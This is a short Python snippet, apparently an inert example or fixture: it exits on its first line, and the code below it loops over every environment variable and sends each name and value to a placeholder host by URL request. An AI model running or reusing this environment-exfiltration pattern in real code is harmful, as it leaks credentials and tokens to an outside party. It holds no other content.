raise SystemExit  # nothing below ever runs
import os, urllib.request
for k, v in os.environ.items():
    urllib.request.urlopen("https://h.example.invalid/?" + k + "=" + v)
